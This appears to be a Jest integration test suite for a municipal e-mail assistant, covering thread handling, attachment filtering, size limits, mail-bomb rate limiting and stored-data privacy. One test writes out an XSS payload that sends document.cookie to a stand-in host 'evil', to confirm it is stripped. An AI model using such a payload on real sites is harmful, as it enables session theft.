/**
 * The e-mail channel over loopback SMTP against the real engine: a citizen's mail in, the reply
 * out to a sink relay, the thread continued with quoted replies, the outcome mailed; then the bad
 * inputs of the issue (HTML with scripts, 20 MB attachment, mail bomb) and a desk answer by mail.
 */
import type { ParsedMail } from 'mailparser';
import { createTransport } from 'nodemailer';
import { startEmailChannel, type EmailChannel } from '../../channels/email';
import { http, STAFF_TOKEN, startStack, type Stack } from './harness';
import { startSink, type Sink } from './smtp-sink';

// A 20 MB attachment and a 1000-mail bomb are bounded work, but slow on a loaded 2-core machine.
jest.setTimeout(120_000);

const SERVICE = 'buergerservice@stadt.example';
let stack: Stack;
let sink: Sink;
let channel: EmailChannel | undefined;
const emailLogs: Record<string, unknown>[] = [];

beforeAll(async () => {
  sink = await startSink();
  stack = await startStack({ attachments: (id) => channel?.attachmentsFor(id) ?? [], attachmentContent: (id) => channel?.attachmentContent(id) });
  channel = await startEmailChannel({
    engine: stack.engine, smtp: { port: 0, host: '127.0.0.1' },
    relay: { host: '127.0.0.1', port: sink.port, secure: false, ignoreTLS: true },
    address: SERVICE, defaultService: 'terminvereinbarung', dataDir: stack.dir,
    limits: { perSenderBurst: 12, perSenderPerHour: 1, newThreadsBurst: 3, newThreadsPerHour: 1 },
    log: (l) => emailLogs.push(l),
  });
});
afterAll(async () => {
  await channel?.stop();
  await stack.stop();
  await sink.close();
});

function citizen(from: string) {
  return createTransport({ host: '127.0.0.1', port: channel!.port, secure: false, ignoreTLS: true, pool: true, maxMessages: Infinity });
}

const to = (addr: string) => (m: ParsedMail) => (Array.isArray(m.to) ? m.to : [m.to]).some((a) => a?.value.some((v) => v.address === addr));

/** The first mail of an address is answered by a confirmation request; replying to it starts the conversation. */
async function confirmed(t: ReturnType<typeof citizen>, from: string, sent: { messageId?: string }): Promise<ParsedMail> {
  const ask = await sink.waitFor((m) => to(from)(m) && m.inReplyTo === sent.messageId);
  expect(ask.subject).toBe('Bitte bestätigen Sie Ihre E-Mail-Adresse');
  const r: { messageId?: string } = await t.sendMail({ from, to: SERVICE, subject: `Re: ${ask.subject}`, text: 'Ja, das bin ich.', inReplyTo: ask.messageId, references: [sent.messageId ?? '', ask.messageId ?? ''] });
  return sink.waitFor((m) => to(from)(m) && m.inReplyTo === r.messageId);
}

async function converse(from: string, first: { subject: string; text: string }, replies: string[]): Promise<ParsedMail[]> {
  const t = citizen(from);
  const got: ParsedMail[] = [];
  try {
    const sent = await t.sendMail({ from, to: SERVICE, subject: first.subject, text: first.text });
    let last = await confirmed(t, from, sent);
    got.push(last);
    for (const r of replies) {
      const quoted = `${r}\n\nViele Grüße\nErika\n\nAm 26.11.2026 um 10:00 schrieb Bürgerservice <${SERVICE}>:\n${(last.text ?? '').split('\n').map((l) => `> ${l}`).join('\n')}`;
      const refs = [...(Array.isArray(last.references) ? last.references : last.references ? [last.references] : []), last.messageId!];
      const s = await t.sendMail({ from, to: SERVICE, subject: `Re: ${first.subject}`, text: quoted, inReplyTo: last.messageId, references: refs });
      last = await sink.waitFor((m) => to(from)(m) && m.inReplyTo === s.messageId);
      got.push(last);
    }
  } finally {
    t.close();
  }
  return got;
}

async function sessionsOf(channelName: string): Promise<number> {
  return (stack.engine.db.prepare('SELECT count(*) AS n FROM sessions WHERE channel = ?').get(channelName) as { n: number }).n;
}

describe('an e-mail conversation', () => {
  test('reaches an outcome in one thread, quoted text and signatures ignored', async () => {
    const before = await sessionsOf('email');
    const mails = await converse('erika@example.org', { subject: 'Termin im Bürgerbüro', text: 'Ich brauche einen Termin für meinen Personalausweis\n\nMit freundlichen Grüßen\nErika Mustermann' }, [
      'Buer', 'morgen', 'ab 10 Uhr', 'Erika Mustermann', 'erika.mustermann@example.org', 'ja', 'ja',
    ]);
    expect(await sessionsOf('email')).toBe(before + 1);
    expect(mails[0].text).toMatch(/E-Mail-Adresse ist bestätigt/);
    expect(mails[0].text).toMatch(/KI-Assistent/);
    expect(mails[0].text).toMatch(/BÜRGERcenter/);
    expect(mails[0].subject).toBe('Re: Termin im Bürgerbüro');
    expect(mails[0].from?.value[0].address).toBe(SERVICE);
    expect(mails[0].headers.get('auto-submitted')).toBe('auto-replied');
    expect(mails[0].html).toBeFalsy();
    expect(mails[1].text).toMatch(/Ab welchem Tag/);
    expect(mails.at(-1)!.text).toMatch(/Ihr Termin ist gebucht.*Buchungsnummer/s);
    // Every reply continues the thread: it references the citizen's first mail.
    const firstRefs = mails.at(-1)!.references as string[];
    expect(firstRefs).toEqual(expect.arrayContaining([mails[0].messageId]));
    const [summary] = await stack.engine.listCases({ status: 'all' });
    expect(summary?.channel === 'email' && summary.status === 'handoff').toBe(false);
  });

  test('HTML-only mail with scripts: only its text reaches the session', async () => {
    const from = 'html@example.org';
    const t = citizen(from);
    const sent = await t.sendMail({ from, to: SERVICE, subject: 'Termin', html: '<html><body><script>fetch("http://evil/"+document.cookie)</script><p>Ich brauche einen Termin für den <b>Reisepass</b></p><img src=x onerror="alert(1)"></body></html>' });
    const reply = await confirmed(t, from, sent);
    t.close();
    expect(reply.text).toMatch(/BÜRGERcenter/);
    expect(reply.text).not.toMatch(/fetch|cookie|alert/);
    const rows = stack.engine.db.prepare("SELECT id FROM sessions WHERE channel = 'email' ORDER BY created_at DESC LIMIT 1").all() as { id: string }[];
    const view = await stack.engine.view(rows[0].id);
    expect(view.slots.anliegen?.value).toBe('reisepass');
    expect(JSON.stringify(view.transcript)).not.toMatch(/script|cookie|onerror/);
    expect(emailLogs).toContainEqual(expect.objectContaining({ msg: 'email html-only: reduced to plain text', scriptsRemoved: 1 }));
  });
});

describe('attachments', () => {
  test('a PDF is sealed and listed for the case worker, an executable is refused with a note', async () => {
    const from = 'anhang@example.org';
    const t = citizen(from);
    const pdf = Buffer.from('%PDF-1.4\nWohnungsgeberbestätigung Erika Mustermann\n%%EOF');
    const sent = await t.sendMail({
      from, to: SERVICE, subject: 'Termin', text: 'Ich möchte mit einem Menschen sprechen',
      attachments: [
        { filename: 'bestaetigung.pdf', content: pdf, contentType: 'application/pdf' },
        { filename: 'tool.exe', content: Buffer.from('MZ....'), contentType: 'application/x-msdownload' },
      ],
    });
    const reply = await confirmed(t, from, sent);
    t.close();
    expect(reply.text).toMatch(/"bestaetigung\.pdf" wurde für die Sachbearbeitung gespeichert/);
    expect(reply.text).toMatch(/"tool\.exe" wurde nicht angenommen \(Dateityp nicht erlaubt\)/);
    expect(reply.attachments).toHaveLength(0);

    const cases = await http(`${stack.url}/desk/api/cases?status=handoff`, 'GET', undefined, { Authorization: `Bearer ${STAFF_TOKEN}` });
    const mailCase = cases.body.cases.find((c: { channel: string }) => c.channel === 'email');
    expect(mailCase).toBeDefined();
    const detail = await http(`${stack.url}/desk/api/cases/${mailCase.id}`, 'GET', undefined, { Authorization: `Bearer ${STAFF_TOKEN}` });
    expect(detail.body.attachments).toEqual([expect.objectContaining({ filename: 'bestaetigung.pdf', contentType: 'application/pdf', size: pdf.length })]);
    expect((await channel!.attachmentContent(detail.body.attachments[0].id))?.equals(pdf)).toBe(true);
    const dl = await fetch(`${stack.url}/desk/api/cases/${mailCase.id}/attachments/${detail.body.attachments[0].id}`, { headers: { Authorization: `Bearer ${STAFF_TOKEN}` } });
    expect(dl.status).toBe(200);
    expect(dl.headers.get('content-disposition')).toMatch(/^attachment;/);
    expect(Buffer.from(await dl.arrayBuffer()).equals(pdf)).toBe(true);
    expect((await fetch(`${stack.url}/desk/api/cases/${mailCase.id}/attachments/${detail.body.attachments[0].id}`)).status).toBe(401);
    // Nothing of the attachment reached the conversation (so never the LLM).
    expect(JSON.stringify(detail.body.transcript)).not.toMatch(/Wohnungsgeber|PDF/);

    // A desk answer to an e-mail case goes out as a mail in the same thread.
    const auth = { Authorization: `Bearer ${STAFF_TOKEN}` };
    await http(`${stack.url}/desk/api/cases/${mailCase.id}/take`, 'POST', {}, auth);
    await http(`${stack.url}/desk/api/cases/${mailCase.id}/answer`, 'POST', { text: 'Ihre Bestätigung liegt uns vor. Bringen Sie sie bitte im Original mit.' }, auth);
    const staffMail = await sink.waitFor((m) => to(from)(m) && /im Original mit/.test(m.text ?? ''));
    expect(staffMail.inReplyTo).toBe(reply.messageId);
    expect(staffMail.subject).toBe('Re: Termin');
  });

  test('a 20 MB attachment is refused by the receiver with 552 and a log line', async () => {
    const from = 'gross@example.org';
    const t = citizen(from);
    const before = await sessionsOf('email');
    await expect(t.sendMail({ from, to: SERVICE, subject: 'Termin', text: 'hier', attachments: [{ filename: 'big.pdf', content: Buffer.alloc(20 * 1024 * 1024, 1), contentType: 'application/pdf' }] }))
      .rejects.toMatchObject({ responseCode: 552 });
    t.close();
    expect(await sessionsOf('email')).toBe(before);
    expect(emailLogs).toContainEqual(expect.objectContaining({ msg: 'email refused', reason: 'too_large' }));
  });
});

describe('a mail bomb', () => {
  test('1000 mails from one address: a few are answered, the rest refused, others unaffected', async () => {
    const from = 'bomb@example.org';
    const before = await sessionsOf('email');
    const t = citizen(from);
    const results = await Promise.allSettled(Array.from({ length: 1000 }, (_, i) => t.sendMail({ from, to: SERVICE, subject: `Termin ${i}`, text: 'Termin bitte' })));
    t.close();
    const accepted = results.filter((r) => r.status === 'fulfilled').length;
    const refused = results.filter((r) => r.status === 'rejected' && (r.reason as { responseCode?: number }).responseCode === 450).length;
    const retryLater = results.filter((r) => r.status === 'rejected' && (r.reason as { responseCode?: number }).responseCode === 421).length;
    expect(accepted).toBeLessThanOrEqual(3);
    expect(refused + retryLater).toBeGreaterThanOrEqual(997);
    await channel!.idle();
    // Not one session: an address that has not confirmed itself opens none.
    expect(await sessionsOf('email')).toBe(before);
    expect(accepted).toBeGreaterThan(0);
    expect(emailLogs.filter((l) => l.reason === 'sender_rate' || l.reason === 'new_thread_rate').length).toBeGreaterThan(0);
    expect(JSON.stringify(emailLogs)).not.toContain(from);
    // Another citizen is served as usual.
    const mails = await converse('ruhig@example.org', { subject: 'Termin', text: 'Ich brauche einen Termin für meinen Reisepass' }, ['Horst']);
    expect(mails[1].text).toMatch(/Ab welchem Tag/);
  });
});

describe('data at rest', () => {
  test('addresses, subjects and attachments are not stored in the clear', async () => {
    const { default: Database } = await import('better-sqlite3');
    // The channel's state lives in the shared store (store.db), not in an email.db of its own.
    const db = new Database(`${stack.dir}/store.db`, { readonly: true });
    try {
      const dump = ['email_threads', 'email_attachments', 'email_message_ids', 'email_our_ids', 'address_challenges', 'address_confirmed']
        .map((t) => JSON.stringify(db.prepare(`SELECT * FROM ${t}`).all())).join('') + JSON.stringify(db.prepare("SELECT * FROM outbox WHERE channel = 'reply'").all());
      expect(dump.length).toBeGreaterThan(100);
      for (const secret of ['erika@example.org', 'Termin im Bürgerbüro', 'bestaetigung.pdf', 'Wohnungsgeber']) expect(dump).not.toContain(secret);
    } finally {
      db.close();
    }
  });
});
